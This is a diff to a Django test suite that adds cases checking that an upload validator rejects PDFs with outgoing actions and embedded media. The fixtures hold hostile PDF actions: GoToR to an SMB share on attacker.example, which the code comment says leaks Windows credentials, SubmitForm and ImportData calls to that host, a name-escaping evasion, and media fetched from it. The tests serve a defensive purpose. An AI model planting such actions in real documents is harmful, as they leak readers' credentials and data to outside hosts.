@@ -34,7 +34,7 @@ from django.utils.html import escape
 from PIL import ExifTags, Image, ImageCms, PngImagePlugin
 from pypdf import PdfReader
 from pypdf.actions import JavaScript
-from pypdf.generic import NameObject, TextStringObject
+from pypdf.generic import ArrayObject, NameObject, NumberObject, TextStringObject
 from rest_framework.test import APIClient
 
 from accounts import tokens
@@ -76,6 +76,14 @@ PDF_JAVASCRIPT = (
 )
 PDF_LAUNCH = (
     "The PDF file contains an action that starts another program, which is not accepted; print it to a new PDF "
+    "and upload that instead."
+)
+PDF_REMOTE = (
+    "The PDF file contains an action that opens another document or sends or fetches form data, which is not "
+    "accepted; print it to a new PDF and upload that instead."
+)
+PDF_MEDIA = (
+    "The PDF file contains sound or video that a viewer would play, which is not accepted; print it to a new PDF "
     "and upload that instead."
 )
 PDF_EMBEDDED = "The PDF file contains embedded files, which are not accepted; upload each file on its own instead."
@@ -441,6 +449,91 @@ REFUSED = [
         "report.pdf",
         "application/pdf",
         PDF_LAUNCH,
+        "pdf_active_content",
+    ),
+    # Actions that reach another document or send form data: opening or clicking makes a request elsewhere (an
+    # SMB path leaks the reader's Windows credentials).
+    Refusal(
+        "pdf-gotor-open-action",
+        lambda: pdf_with_open_action(
+            {
+                "/S": NameObject("/GoToR"),
+                "/F": TextStringObject("\\\\attacker.example\\share\\report.pdf"),
+                "/D": ArrayObject([NumberObject(0), NameObject("/Fit")]),
+            }
+        ),
+        "report.pdf",
+        "application/pdf",
+        PDF_REMOTE,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-gotoe-in-link",
+        lambda: pdf_with_page(
+            b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
+            b"/A << /S /GoToE /D [0 /Fit] /T << /R /C /N (attached.pdf) >> >> >>]"
+        ),
+        "report.pdf",
+        "application/pdf",
+        PDF_REMOTE,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-submit-form-on-page-close",
+        lambda: pdf_with_page(b"/AA << /C << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >> >>"),
+        "report.pdf",
+        "application/pdf",
+        PDF_REMOTE,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-import-data-behind-escaped-name",
+        lambda: raw_pdf_with_catalog(b"/OpenAction << /S /Import#44ata /F (https://attacker.example/data.fdf) >>"),
+        "report.pdf",
+        "application/pdf",
+        PDF_REMOTE,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-gotor-in-compressed-object-stream",
+        lambda: pdf_with_compressed_objects(b"/OpenAction << /S /GoToR /F (//attacker.example/x.pdf) /D [0 /Fit] >>"),
+        "report.pdf",
+        "application/pdf",
+        PDF_REMOTE,
+        "pdf_active_content",
+    ),
+    # Media a viewer plays (and may fetch): sound, movie and rendition actions and annotations.
+    Refusal(
+        "pdf-sound-open-action",
+        lambda: raw_pdf_with_catalog(
+            b"/OpenAction << /S /Sound /Sound 4 0 R >>",
+            b"<< /Type /Sound /R 8000 /Length 4 >>\nstream\n\x00\x00\x00\x00\nendstream",
+        ),
+        "report.pdf",
+        "application/pdf",
+        PDF_MEDIA,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-movie-annotation",
+        lambda: pdf_with_page(
+            b"/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 99 99] "
+            b"/Movie << /F (https://attacker.example/m) >> >>]"
+        ),
+        "report.pdf",
+        "application/pdf",
+        PDF_MEDIA,
+        "pdf_active_content",
+    ),
+    Refusal(
+        "pdf-rendition-action",
+        lambda: pdf_with_page(
+            b"/AA << /O << /S /Rendition /OP 0 "
+            b"/R << /S /MR /C << /S /MCD /D (https://attacker.example/v.mp4) >> >> >> >>"
+        ),
+        "report.pdf",
+        "application/pdf",
+        PDF_MEDIA,
         "pdf_active_content",
     ),
     Refusal(
@@ -936,6 +1029,22 @@ def test_every_kind_of_active_content_in_one_pdf_is_named(case, media):
         ("pdf_active_content", PDF_LAUNCH),
         ("pdf_active_content", PDF_EMBEDDED),
         ("pdf_active_content", PDF_XFA),
+    ]
+    assert disk(media) == {}
+
+
+def test_each_new_kind_of_outgoing_action_and_media_is_named_once(case, media):
+    document = raw_pdf_with_catalog(
+        b"/OpenAction << /S /GoToR /F (//attacker.example/x.pdf) /D [0 /Fit] "
+        b"/Next [<< /S /SubmitForm /F (https://attacker.example/) >> << /S /Sound /Sound 4 0 R >> "
+        b"<< /S /Rendition /OP 0 >> << /S /URI /URI (https://example.org/) >>] >>",
+        b"<< /Type /Sound /R 8000 /Length 4 >>\nstream\n\x00\x00\x00\x00\nendstream",
+    )
+    with pytest.raises(ValidationError) as refused:
+        evidence.validate_and_store(SimpleUploadedFile("report.pdf", document), case=case)
+    assert [(e.code, e.message) for e in refused.value.error_dict["file"]] == [
+        ("pdf_active_content", PDF_REMOTE),
+        ("pdf_active_content", PDF_MEDIA),
     ]
     assert disk(media) == {}
 
